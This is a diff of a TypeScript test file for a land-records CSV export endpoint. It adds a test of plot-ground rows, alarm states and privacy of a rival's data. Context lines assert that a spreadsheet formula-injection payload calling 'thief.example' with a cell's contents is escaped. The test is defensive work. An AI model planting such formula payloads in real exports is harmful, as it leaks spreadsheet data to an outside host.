@@ -5,8 +5,11 @@ import {
   ExportKind,
 } from '@contract/endpoints/export-records';
 import { Api, codeOf, type User } from '../support/api';
+import { toDates } from '../../../functions/src/firestore/stored-document';
+import { callSaveGround, describePlot, newPlace } from '../support/grounds';
 import { signInHalfAdministrator } from '../support/half-administrator';
 import { newAdministrator } from '../support/new-administrator';
+import { addReport } from '../support/reports';
 
 const api = await Api.start();
 const manager = await newAdministrator(api);
@@ -118,6 +121,100 @@ describe('exportRecords', () => {
       `"'=HYPERLINK(""http://thief.example?""&A1,""Open"")"`,
     );
     expect(rows[0]).toContain(`"Accra;'@SUM(1+1)\n'+233"`);
+  });
+
+  test('writes what was typed from plans, and how the alarms about it stand, but whose land the other one is', async () => {
+    const [officer, rival] = [
+      await newAdministrator(api, { roles: ['officer'] }),
+      await api.newUser(),
+    ];
+    const place = newPlace();
+    const requestId = await api.addRequest(owner, {
+      paymentStatus: true,
+      reference: 'LS-7K3M-98',
+    });
+    const reportId = await addReport(api, rival);
+    const typed = describePlot(place, {
+      printed: {
+        area: { value: '=0.30', unit: 'acre' },
+        scale: '500',
+        region: null,
+      },
+    });
+    await callSaveGround(api, officer, {
+      documentId: requestId,
+      description: typed,
+    });
+    await callSaveGround(api, officer, {
+      collection: 'due-diligence',
+      documentId: reportId,
+      description: describePlot({ ...place, east: place.east + 15 }),
+    });
+    const request = await api.read(`requests/${requestId}`);
+    const saved = await api.read(`plan_grounds/requests-${requestId}`);
+    const today = new Date().toISOString().slice(0, 10);
+    const { names, rows } = await exportAs(manager, {
+      kind: 'grounds',
+      from: today,
+      to: today,
+    });
+    const rowOf = (id: string) => {
+      const row = rows.find((line) => line.startsWith(`"${id}",`)) ?? '';
+      const cells = row.slice(1, -1).split('","');
+      return Object.fromEntries(
+        names
+          .slice(2, -1)
+          .split('","')
+          .map((name, index) => [name, cells[index]]),
+      );
+    };
+    const row = rowOf(`requests-${requestId}`);
+    expect(row).toMatchObject({
+      Reference: 'LS-7K3M-98',
+      Collection: 'requests',
+      'About record': requestId,
+      'Confirmed by': officer.uid,
+      Version: '1',
+      Table: 'coordinates',
+      Grid: 'national-grid-metres',
+      Unit: '',
+      'Plan names its datum': 'yes',
+      Corners: '4',
+      'Area in m2': '1200.00',
+      'Area in acres': '0.2965',
+      'Printed area': "'=0.30 acre",
+      'Printed scale': '500',
+      Seal: '',
+      'Barcode or QR code': 'no',
+      'Has a place': 'yes',
+      'Compared with other plans': 'yes',
+      Alarms: '1',
+      'State of the alarms': 'open',
+      'Matches without an alarm': '0',
+    });
+    expect(rowOf(`due-diligence-${reportId}`)).toMatchObject({
+      Collection: 'due-diligence',
+      Alarms: '1',
+    });
+    const text = JSON.stringify(row);
+    for (const secret of [reportId, rival.uid, place.east, place.north]) {
+      expect(text).not.toContain(String(secret));
+    }
+    expect(Object.keys(saved)).not.toContain('alarmStates');
+
+    const asRequest = await exportAs(manager, {
+      kind: 'requests',
+      from: today,
+      to: today,
+    });
+    const { confirmedAt } = toDates(request['ground']) as { confirmedAt: Date };
+    expect(asRequest.names).toContain(
+      '"District","Area in m2","Area in acres","Corners confirmed","Paid"',
+    );
+    const time = confirmedAt.toISOString().slice(0, 19).replace('T', ' ');
+    expect(
+      asRequest.rows.find((line) => line.startsWith(`"${requestId}",`)),
+    ).toContain(`"1200.00","0.2965","${time}"`);
   });
 
   test.each(ExportKind.options)('writes %s', async (kind) => {
